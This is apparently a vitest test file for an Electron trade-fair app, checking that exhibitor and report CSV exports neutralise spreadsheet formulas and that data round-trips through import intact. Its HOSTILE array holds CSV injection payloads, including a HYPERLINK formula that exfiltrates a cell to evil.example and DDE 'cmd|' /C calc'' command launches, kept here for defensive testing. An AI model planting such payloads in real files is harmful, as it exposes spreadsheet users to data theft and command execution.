import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createExhibitor, listExhibitors } from '../../../electron/services/exhibitors/directory';
import { exportDirectory } from '../../../electron/services/exhibitors/export';
import { analyzeImport, runImport } from '../../../electron/services/exhibitors/import/import';
import { fairReportCsv } from '../../../electron/services/reports/export';
import { buildFairReport } from '../../../electron/services/reports/fair-report';
import { makeFair, type TestFair } from '../exhibitors/fixture';

/** Text an exhibitor (or someone typing on their behalf) could enter, that a spreadsheet would run. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+84 912 345 678',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=already quoted",
  "''+twice quoted",
  'Hợp tác xã =bình thường',
];

const cellsOf = (base64: string) =>
  Papa.parse<string[]>(
    Buffer.from(base64, 'base64')
      .toString('utf8')
      .replace(/^\uFEFF/, ''),
  ).data.flat();
const looksLikeFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV exports carry no formulas, and read back as the text that was typed', () => {
  let fair: TestFair;
  let other: TestFair;
  beforeEach(() => {
    fair = makeFair();
    other = makeFair();
    HOSTILE.forEach((legalName, i) => createExhibitor(fair.db, 'Lan', { legalName, contactPerson: HOSTILE[(i + 1) % HOSTILE.length]! }));
  });
  afterEach(() => {
    fair.close();
    other.close();
  });

  it('the exhibitor directory CSV neutralises every cell a spreadsheet would run', async () => {
    const file = await exportDirectory(fair.db, 'csv');
    const cells = cellsOf(file.base64);
    expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "'+84 912 345 678"]));
    expect(cells.filter(looksLikeFormula)).toEqual([]);
  });

  it('the fair report CSV does too', () => {
    fair.db.prepare('UPDATE fair SET name = ?, venue = ?').run('=1+1', '@venue');
    const cells = cellsOf(fairReportCsv(buildFairReport(fair.db), 'vi').base64);
    expect(cells).toContain("'=1+1");
    expect(cells.filter(looksLikeFormula)).toEqual([]);
  });

  it('exported then imported into another fair, every name comes back exactly as typed', async () => {
    const file = await exportDirectory(fair.db, 'csv');
    const bytes = Buffer.from(file.base64, 'base64');
    const analysis = await analyzeImport(other.db, bytes, file.fileName);
    expect(analysis.errorCount).toBe(0);
    await runImport(other.db, 'Lan', bytes, file.fileName, analysis.mapping, 'skip');
    const back = listExhibitors(other.db).map((e) => [e.legalName, e.contactPerson]);
    const typed = listExhibitors(fair.db).map((e) => [e.legalName, e.contactPerson]);
    expect(back.sort()).toEqual(typed.sort());
    expect(back.map(([name]) => name).sort()).toEqual([...HOSTILE].sort());
  });
});
